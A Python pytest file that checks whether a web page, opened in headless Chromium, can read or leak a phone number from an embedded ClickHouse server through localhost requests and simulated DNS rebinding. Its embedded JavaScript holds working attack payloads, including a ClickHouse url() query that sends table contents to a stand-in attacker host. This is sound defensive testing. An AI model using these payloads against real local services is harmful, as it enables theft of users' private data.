"""Attacks by a web page on the embedded ClickHouse of the browser's user, in a real browser: none succeeds.

The page tries every request that it can send without permission: to the machine's own addresses, and to its own name
after the owner of that name let it point here (DNS rebinding). The same requests go to a server of the test that allows
everything: there each of them gets the number, so an attack that cannot work fails the test.
"""

import asyncio
import os
import re
import shutil
from collections.abc import Awaitable, Callable, Mapping
from pathlib import Path
from typing import Final, NamedTuple
from urllib.parse import quote, unquote

import msgspec
import pytest
from aiohttp import web

from deploy.clickhouse.launch import ClickHouseServer
from deploy.process.ports import free_port
from tests.support.clickhouse_at import address, ask

NUMBER: Final = "+8613800001111"
FOREIGN: Final = "evil.example"
NAMES: Final = (
    "chromium",
    "chromium-browser",
    "google-chrome-stable",
    "google-chrome",
    "chrome",
    "chrome-headless-shell",
)
BROWSER: Final = os.environ.get("CALLWEAVE_TEST_CHROMIUM") or next(filter(None, map(shutil.which, NAMES)), None)
WITHIN_S: Final = 120

pytestmark = pytest.mark.skipif(
    BROWSER is None,
    reason="NO BROWSER: not shown that a web page gets nothing; install chromium, or name one in CALLWEAVE_TEST_CHROMIUM",
)

# Each attack ends by itself. It reports what it read to the page's owner; requests that the server made to a stranger
# are noted.
PAGE: Final = """<!doctype html><meta charset="utf-8"><title>page</title><body><script>
const at = "{at}", tell = "{tell}", read = {}, limit = 4000;
const sql = "SELECT number FROM phones";
const asked = (name) => at + "/?try=" + encodeURIComponent(name) + "&query=" + encodeURIComponent(sql);
const sent = (name) => at + "/?query=" + encodeURIComponent(
  "SELECT * FROM url(concat('" + tell + "/heard?by=" + encodeURIComponent(name) +
  "&what=', (SELECT encodeURLComponent(number) FROM phones)), 'LineAsString', 'a String')");
const until = (start) => new Promise((done) => { start(done); setTimeout(done, limit); });
const loaded = (name, give) => until((done) => {
  const one = document.createElement(name);
  one.onload = one.onerror = done;
  give(one);
  document.body.append(one);
});
const form = (method, action, fields) => until((done) => {
  const frame = document.createElement("iframe"), made = document.createElement("form");
  frame.name = "f" + Math.random();
  frame.onload = () => { if (made.isConnected) done(); };
  document.body.append(frame);
  Object.assign(made, {method, action, target: frame.name, enctype: method == "post" ? "text/plain" : ""});
  for (const [name, value] of Object.entries(fields)) {
    const field = document.createElement("input");
    Object.assign(field, {name, value});
    made.append(field);
  }
  document.body.append(made);
  made.submit();
});
const taken = async (name, address, options) => { read[name] = await (await fetch(address, options)).text(); };
const tries = {
  "picture": (name) => loaded("img", (one) => { one.src = sent(name); }),
  "script": (name) => loaded("script", (one) => { one.src = asked(name); }).then(() => { read[name] = String(window.number); }),
  "style": (name) => loaded("link", (one) => { one.rel = "stylesheet"; one.href = sent(name); }),
  "frame": (name) => loaded("iframe", (one) => { one.src = sent(name); }),
  "form by GET": (name) => form("get", at + "/", {query: new URL(sent(name)).searchParams.get("query")}),
  "form by POST": (name) => form("post", sent(name), {x: "y"}),
  "fetch": (name) => taken(name, asked(name)),
  "fetch with cookies": (name) => taken(name, asked(name), {credentials: "include"}),
  "fetch without CORS": (name) => fetch(sent(name), {mode: "no-cors"}),
  "fetch by POST without CORS": (name) => fetch(sent(name), {mode: "no-cors", method: "POST", body: "--"}),
  "fetch with an empty password": (name) => taken(name, asked(name) + "&user=default&password="),
  "fetch with an account's name": (name) => taken(name, asked(name) + "&user=callweave"),
  "fetch with headers": (name) => taken(name, asked(name), {headers: {"X-ClickHouse-User": "default", "X-ClickHouse-Key": ""}}),
  "fetch that asks for CORS": (name) => taken(name, asked(name) + "&add_http_cors_header=1"),
  "beacon": (name) => until((done) => { navigator.sendBeacon(sent(name), ""); setTimeout(done, 500); }),
  "WebSocket": (name) => until((done) => {
    const one = new WebSocket(asked(name).replace("http", "ws"));
    one.onmessage = (event) => { read[name] = event.data; done(); };
    one.onerror = done;
  }),
  "EventSource": (name) => until((done) => {
    const one = new EventSource(asked(name));
    one.onmessage = (event) => { read[name] = event.data; one.close(); done(); };
    one.onerror = () => { one.close(); done(); };
  }),
};
(async () => {
  await Promise.all(Object.entries(tries).map(async ([name, run]) => {
    // A browser that is asked for a password waits for a person.
    try { await Promise.race([run(name), until(() => {})]); } catch {}
  }));
  await fetch(tell + "/done", {mode: "no-cors", method: "POST", body: JSON.stringify(read)});
})();
</script>"""
TRIES: Final = tuple(re.findall(r'^  "([^"]+)": \(name\)', PAGE, re.MULTILINE))
PLACES: Final = ("the machine's number", "the machine's name", "the page's own name")


class Result(NamedTuple):
    """The texts that a page got, by the name of the attack."""

    read: Mapping[str, str]
    sent: Mapping[str, str]
    """The requests of a server to the stranger."""

    def of(self, name: str) -> str:
        """Returns everything that the attack got out."""
        return self.read.get(name, "") + self.sent.get(name, "")


class Stranger:
    """The owner of the page: serves it, takes its reports, and points its name to another server later."""

    def __init__(self) -> None:
        self.sent: dict[str, str] = {}
        self.done: asyncio.Queue[dict[str, str]] = asyncio.Queue()

    async def answer(self, request: web.Request) -> web.Response:
        """Answers one request to the stranger's server."""
        if request.path == "/page":
            text = PAGE.replace("{at}", request.query["at"]).replace("{tell}", request.query["tell"])
            return web.Response(text=text, content_type="text/html")
        if request.path == "/done":
            self.done.put_nowait(msgspec.json.decode(await request.read(), type=dict[str, str]))
        if request.path == "/heard":
            self.sent[request.query["by"]] = request.query["what"]
        return web.Response()


STRANGER: Final = web.AppKey("stranger", Stranger)


async def answers_everybody(request: web.Request) -> web.StreamResponse:
    """A server without passwords that allows every page to read its answers."""
    query = request.query.get("query", "")
    sent = re.search(r"/heard\?by=([^&']*)&what=", query)
    anybody = {"Access-Control-Allow-Origin": request.headers.get("Origin", "*"), "Access-Control-Allow-Headers": "*"}
    anybody["Access-Control-Allow-Credentials"] = "true"
    if request.headers.get("Access-Control-Request-Headers"):
        anybody["Access-Control-Allow-Headers"] = request.headers["Access-Control-Request-Headers"]
    if sent:
        heard: Stranger = request.app[STRANGER]
        heard.sent[unquote(sent[1])] = NUMBER
    if request.headers.get("Upgrade", "").lower() == "websocket":
        socket = web.WebSocketResponse()
        await socket.prepare(request)
        await socket.send_str(NUMBER)
        await socket.close()
        return socket
    if request.headers.get("Accept") == "text/event-stream":
        return web.Response(text=f"data: {NUMBER}\n\n", content_type="text/event-stream", headers=anybody)
    if request.query.get("try") == "script":
        return web.Response(text=f"window.number = '{NUMBER}'", content_type="text/javascript", headers=anybody)
    return web.Response(text=NUMBER, headers=anybody)


async def served(answer: Callable[[web.Request], Awaitable[web.StreamResponse]], stranger: Stranger) -> web.AppRunner:
    """Yields a server on a port of its own, whose first address is the result."""
    app = web.Application()
    app[STRANGER] = stranger
    app.router.add_route("*", "/{any:.*}", answer)
    runner = web.AppRunner(app)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", free_port()).start()
    return runner


async def rebound(stranger_port: int, target_port: int) -> asyncio.Server:
    """Yields the page's own name: first the stranger's server, later the server on this machine."""

    async def connected(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = await reader.readuntil(b"\r\n\r\n")
        own = head.split(b" ", 2)[1].startswith(b"/page")
        to_reader, to_writer = await asyncio.open_connection("127.0.0.1", stranger_port if own else target_port)
        # A new connection for each request, as after a change of the name's address.
        to_writer.write(head.replace(b"Connection: keep-alive", b"Connection: close"))
        await asyncio.gather(copied(reader, to_writer), copied(to_reader, writer))

    async def handled(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            await connected(reader, writer)
        except (OSError, asyncio.IncompleteReadError):
            writer.close()

    return await asyncio.start_server(handled, "127.0.0.1", free_port())


async def copied(source: asyncio.StreamReader, sink: asyncio.StreamWriter) -> None:
    """Yields bytes as they come, to the end."""
    while piece := await source.read(1 << 16):
        sink.write(piece)
        await sink.drain()
    sink.close()


async def opened(page: str, stranger: Stranger, profile: Path) -> Result:
    """Returns what the page got, opened in a browser of its own."""
    stranger.sent.clear()
    assert BROWSER is not None
    browser = await asyncio.create_subprocess_exec(
        BROWSER,
        *("--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run"),
        *("--disable-background-networking", "--disable-component-update", "--remote-debugging-port=0"),
        *(f"--user-data-dir={profile}", f"--host-resolver-rules=MAP {FOREIGN} 127.0.0.1", page),
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
    )
    try:
        read = await asyncio.wait_for(stranger.done.get(), WITHIN_S)
    finally:
        browser.kill()
        await browser.wait()
    return Result(read=read, sent=dict(stranger.sent))


@pytest.fixture(scope="module")
async def results(tmp_path_factory: pytest.TempPathFactory) -> Mapping[tuple[str, str], Result]:
    """Returns what the page got, by the target of the attack and the name that it used."""
    stranger = Stranger()
    place = tmp_path_factory.mktemp("browser")
    runners = [await served(stranger.answer, stranger), await served(answers_everybody, stranger)]
    stranger_port, open_port = (runner.addresses[0][1] for runner in runners)
    found: dict[tuple[str, str], Result] = {}
    async with ClickHouseServer(place / "clickhouse") as engine:
        owner = address(engine)
        await ask(owner, "CREATE TABLE default.phones (number String) ENGINE = MergeTree ORDER BY number")
        await ask(owner, "INSERT INTO default.phones SELECT {number:String}", param_number=NUMBER)
        assert await ask(owner, "SELECT number FROM phones") == NUMBER
        login_port = int(
            re.findall(r"<uri>http://127.0.0.1:(\d+)/[^<]+</uri>", (place / "clickhouse" / "config.xml").read_text())[0]
        )
        targets = {
            "the engine": engine.port,
            "the engine's logins": login_port,
            "the engine's native protocol": engine.tcp_port,
            "a careless server": open_port,
        }
        for what, port in targets.items():
            async with await rebound(stranger_port, port) as own:
                own_port = own.sockets[0].getsockname()[1]
                for name, host, at in (
                    (PLACES[0], FOREIGN, f"http://127.0.0.1:{port}"),
                    (PLACES[1], FOREIGN, f"http://localhost:{port}"),
                    (PLACES[2], FOREIGN, f"http://{FOREIGN}:{own_port}"),
                ):
                    from_port = own_port if name == PLACES[2] else stranger_port
                    tell = f"http://127.0.0.1:{stranger_port}"
                    page = f"http://{host}:{from_port}/page?at={quote(at, safe='')}&tell={quote(tell, safe='')}"
                    profile = place / f"{what}-{name}".replace(" ", "_").replace("'", "")
                    found[what, name] = await opened(page, stranger, profile)
    for runner in runners:
        await runner.cleanup()
    return found


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("one", TRIES)
async def test_a_page_gets_the_number_from_a_careless_server(
    results: Mapping[tuple[str, str], Result], one: str, place: str
) -> None:
    """The attacks work on the careless server, so the tests below can fail."""
    assert NUMBER in results["a careless server", place].of(one)


@pytest.mark.parametrize("what", ["the engine", "the engine's logins", "the engine's native protocol"])
@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("one", TRIES)
async def test_a_page_gets_nothing(results: Mapping[tuple[str, str], Result], one: str, place: str, what: str) -> None:
    got = results[what, place].of(one)
    assert NUMBER not in got
    assert NUMBER[1:] not in got


@pytest.mark.parametrize("what", ["the engine", "the engine's logins", "the engine's native protocol"])
@pytest.mark.parametrize("place", PLACES)
async def test_nothing_is_sent_to_a_stranger(results: Mapping[tuple[str, str], Result], place: str, what: str) -> None:
    assert not results[what, place].sent


@pytest.mark.parametrize("one", ["fetch", "fetch with an account's name", "fetch with headers"])
async def test_by_its_own_name_a_page_finds_no_engine(results: Mapping[tuple[str, str], Result], one: str) -> None:
    """The request is refused before its password is checked: the Host is not this machine's."""
    got = results["the engine", PLACES[2]].of(one)
    assert got  # the page can read the answer
    assert "DB::Exception" not in got
